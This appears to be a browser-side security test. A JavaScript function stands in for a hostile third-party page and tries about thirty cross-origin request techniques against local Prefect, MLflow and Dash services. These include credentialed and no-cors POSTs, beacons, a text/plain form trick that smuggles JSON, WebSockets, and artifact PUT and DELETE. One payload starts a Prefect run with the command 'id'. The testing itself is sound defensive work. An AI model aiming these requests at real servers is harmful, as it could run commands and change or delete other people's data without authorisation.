// What a page of another site tries: each way resolves to what it could read, or to null.
// What it changes shows at the servers.
async ([prefect, mlflow, explorer, create, artifact, called, call]) => {
  const run = JSON.stringify({job_variables: {command: "id"}, parameters: {}});
  const mlflowRun = JSON.stringify({experiment_id: "0", start_time: 0});
  const read = async answer => answer.type === "opaque" ? null : `${answer.status} ` +
    (await answer.text()).slice(0, 80);
  const get = (url, mode) => fetch(url, {mode, credentials: "include"}).then(read);
  const send = (url, method, mode, body, headers) =>
    fetch(url, {method, mode, body, headers, credentials: "include"}).then(read);
  const socket = (path, words) => new Promise(done => {
    const opened = new WebSocket(prefect.replace("http", "ws") + path, "prefect");
    opened.onopen = () => { words.forEach(word => opened.send(word)); done("it opened"); };
    opened.onerror = () => done(null);
  });
  const element = (name, url) => new Promise(done => {
    const made = document.createElement(name);
    made.onload = () => done("it loaded");
    made.onerror = () => done(null);
    if (name === "link") { made.rel = "stylesheet"; made.href = url; } else { made.src = url; }
    document.body.append(made);
  });
  const form = (url, name, value) => new Promise(done => {
    const frame = document.createElement("iframe"), made = document.createElement("form");
    frame.name = "into" + Math.random();
    made.action = url; made.method = "post"; made.enctype = "text/plain"; made.target = frame.name;
    const field = document.createElement("textarea");
    field.name = name; field.value = value;
    made.append(field); document.body.append(frame, made);
    made.submit(); setTimeout(() => done(null), 1500);
  });
  const frame = url => new Promise(done => {
    const made = document.createElement("iframe");
    made.src = url; document.body.append(made); setTimeout(() => done(null), 1500);
  });
  const events = url => new Promise(done => {
    const source = new EventSource(url, {withCredentials: true});
    source.onopen = () => done("it opened"); source.onerror = () => { source.close(); done(null); };
  });
  const json = {"Content-Type": "application/json"}, text = {"Content-Type": "text/plain"};
  const typed = new Blob([run], {type: "application/json"});
  const ajax = mlflow + "/ajax-api/2.0/mlflow/runs/create";
  const login = JSON.stringify({type: "auth", token: null});
  const ways = {
    "POST of a Blob without a type, no-cors":
      () => send(create, "POST", "no-cors", new Blob([run])),
    "POST of text/plain, no-cors": () => send(create, "POST", "no-cors", run, text),
    "POST of a Blob without a type, cors": () => send(create, "POST", "cors", new Blob([run])),
    "POST of JSON, cors": () => send(create, "POST", "cors", run, json),
    "beacon with a Blob without a type":
      async () => { navigator.sendBeacon(create, new Blob([run])); return null; },
    "beacon with JSON": async () => { navigator.sendBeacon(create, typed); return null; },
    "form that starts a run": () => form(create, '{"job_variables": {"x": "', '"}}'),
    "read of settings, cors": () => get(prefect + "/api/admin/settings", "cors"),
    "read of settings, no-cors": () => get(prefect + "/api/admin/settings", "no-cors"),
    "read of health, cors": () => get(prefect + "/api/health", "cors"),
    "script of the settings": () => element("script", prefect + "/ui-settings"),
    "image of the interface": () => element("img", prefect + "/ico/favicon-32x32.png"),
    "image of MLflow": () => element("img", mlflow + "/static-files/favicon.ico"),
    "style of MLflow": () => element("link", mlflow + "/"),
    "frame around Prefect": () => frame(prefect + "/"),
    "frame around MLflow": () => frame(mlflow + "/"),
    "WebSocket of events out": () => socket("/api/events/out", [login]),
    "WebSocket of events in": () => socket("/api/events/in", [login]),
    "WebSocket of logs": () => socket("/api/logs/out", [login]),
    "event stream of MLflow": () => events(mlflow + "/version"),
    "MLflow run by a Blob without a type":
      () => send(ajax, "POST", "no-cors", new Blob([mlflowRun])),
    "MLflow run by text/plain":
      () => send(ajax, "POST", "no-cors", mlflowRun, text),
    "MLflow run by JSON, cors":
      () => send(mlflow + "/api/2.0/mlflow/runs/create", "POST", "cors", mlflowRun, json),
    "MLflow artifact, PUT": () => send(artifact, "PUT", "cors", "changed"),
    "MLflow artifact, DELETE": () => send(artifact, "DELETE", "cors"),
    "read of an artifact, cors": () => get(artifact, "cors"),
    "frame around Explorer": () => frame(explorer + "/"),
    "read of the explorer, cors": () => get(explorer + "/_dash-layout", "cors"),
    "script of the explorer": () => element("script", explorer + "/_dash-layout"),
    "question to the explorer by JSON, cors":
      () => send(explorer + called, "POST", "cors", call, json),
    "read of MLflow's version, cors": () => get(mlflow + "/version", "cors"),
  };
  const found = {};
  for (const [name, way] of Object.entries(ways)) {
    found[name] = await way().catch(() => null);
  }
  return found;
}
